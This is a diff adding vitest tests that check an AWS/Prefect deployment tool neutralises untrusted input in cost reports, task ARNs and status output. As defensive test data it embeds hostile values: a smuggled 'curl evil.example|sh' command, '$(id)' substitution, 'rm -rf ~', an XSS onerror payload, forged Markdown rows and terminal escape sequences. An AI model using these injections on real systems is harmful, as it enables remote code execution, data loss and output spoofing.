@@ -1,6 +1,9 @@
 import { describe, expect, it } from "vitest";
 import { parseSettings, SECRET_KEYS, SETTING_KEYS } from "../src/settings";
 import { missingPlanTimeValues } from "../src/settings/plan-time";
+import { taskOfInfrastructurePid } from "../src/flows/commands";
+import { renderStatus } from "../src/operations/status";
+import { costMarkdown, estimate, inventoryOf, resourcesOfPlan } from "../src/review/cost";
 import { redactUrl } from "../src/settings/service-rules";
 import { settingsProblems, VARIANTS } from "./support/synth";
 
@@ -108,5 +111,80 @@ describe("database values RDS refuses at apply, refused at synth", () => {
     "arn:aws:rds:us-east-1:123456789012:snapshot:rds:a-b-1",
   ])("GIVEN the restore snapshot %s THEN it is accepted", (snapshot) => {
     expect(settingsProblems({ ...server, prefect_server_db_restore_snapshot: snapshot })).toBe("");
+  });
+});
+
+describe("plan values in the cost estimate are untrusted", () => {
+  const planWith = (instanceClass: unknown, instanceType: unknown, architecture: unknown) => ({
+    resource_changes: [
+      {
+        mode: "managed",
+        type: "aws_db_instance",
+        name: "db",
+        change: { actions: ["create"], after: { instance_class: instanceClass, allocated_storage: 20 } },
+      },
+      { mode: "managed", type: "aws_launch_template", name: "nat", change: { actions: ["create"], after: { instance_type: instanceType } } },
+      {
+        mode: "managed",
+        type: "aws_ecs_task_definition",
+        name: "worker_task_definition",
+        change: { actions: ["create"], after: { cpu: "256", memory: "512", runtime_platform: [{ cpu_architecture: architecture }] } },
+      },
+      { mode: "managed", type: "aws_ecs_service", name: "worker_service", change: { actions: ["create"], after: { desired_count: 1 } } },
+    ],
+  });
+
+  it.each([
+    ["inherited property names", "constructor", "__proto__", "toString", ["constructor", "(unrecognised)", "toString"]],
+    ["Markdown and HTML", "db.t4g.micro|<img src=x onerror=alert(1)>", "t4g.nano**bold**", "ARM64](http://evil.example)", null],
+    ["a forged table row", "x\n| fake | row | $0.00 |", "y\r\n|", "z\n", null],
+  ])(
+    "GIVEN %s in a plan THEN each is not priced, and shown only when it is a plain identifier: no NaN, no extra row, nothing rendered",
+    (_, instanceClass, instanceType, architecture, shown) => {
+      const [rds, nat, fargate] = shown ?? ["(unrecognised)", "(unrecognised)", "(unrecognised)"];
+      const result = estimate(inventoryOf(resourcesOfPlan(planWith(instanceClass, instanceType, architecture))));
+      const markdown = costMarkdown(result);
+      expect(markdown).not.toMatch(/NaN|undefined|\[object|fake|<img|\*\*bold|evil\.example/);
+      expect(Number.isFinite(result.total)).toBe(true);
+      expect(markdown).toContain(`RDS ${rds}: not in the price table`);
+      expect(markdown).toContain(`NAT instance ${nat}: not in the price table`);
+      expect(markdown).toContain(`Fargate ${fargate}: not in the price table`);
+      // Every table line is a row of three cells: nothing from the plan split or added one.
+      for (const line of markdown.split("\n").filter((l) => l.startsWith("|"))) expect(line.split(/(?<!\\)\|/).length, line).toBe(5);
+    },
+  );
+});
+
+describe("text from the Prefect API and AWS, printed by the scripts", () => {
+  const TASK = "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/4f1c2a9b8e7d4c3b9a8f7e6d5c4b3a21";
+  it.each([
+    ["shell syntax in the task id", "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/x;curl${IFS}evil.example|sh"],
+    ["a command substitution", "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/$(id)"],
+    ["a newline and a forged line", `${TASK}\nOK: fine`],
+    ["a cluster with shell syntax", `arn:aws:ecs:us-east-1:123456789012:cluster/a;rm -rf ~::${TASK}`],
+    ["not an ECS task", "arn:aws:ecs:us-east-1:123456789012:service/prefect-ecs-dev/x"],
+  ])("GIVEN an infrastructure_pid with %s THEN flow-run uses no task from it (nothing reaches a command or a hint)", (_, pid) => {
+    expect(taskOfInfrastructurePid(JSON.stringify({ infrastructure_pid: pid }))).toBeUndefined();
+  });
+
+  it("GIVEN a well-formed task ARN THEN its id is used", () => {
+    expect(taskOfInfrastructurePid(JSON.stringify({ infrastructure_pid: TASK }))?.taskId).toBe("4f1c2a9b8e7d4c3b9a8f7e6d5c4b3a21");
+  });
+
+  it("GIVEN names with escape sequences, an OSC-8 link and a newline forging an OK line THEN status prints them inert, and its last line stays its own", () => {
+    const report = {
+      lines: [
+        "  worker \u001b[2J\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007: ONLINE",
+        "  brave-fox\nOK: the worker runs and polls its pool: Completed",
+      ],
+      problems: ["no worker has polled work pool x in the last 120 s"],
+    };
+    const { text, ok } = renderStatus(report);
+    expect(ok).toBe(false);
+    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(text.split("\n")).toHaveLength(3);
+    expect(text.split("\n").filter((line) => line.startsWith("OK:"))).toEqual([]);
+    expect(text.split("\n").at(-1)).toBe("NOT OK: no worker has polled work pool x in the last 120 s");
   });
 });
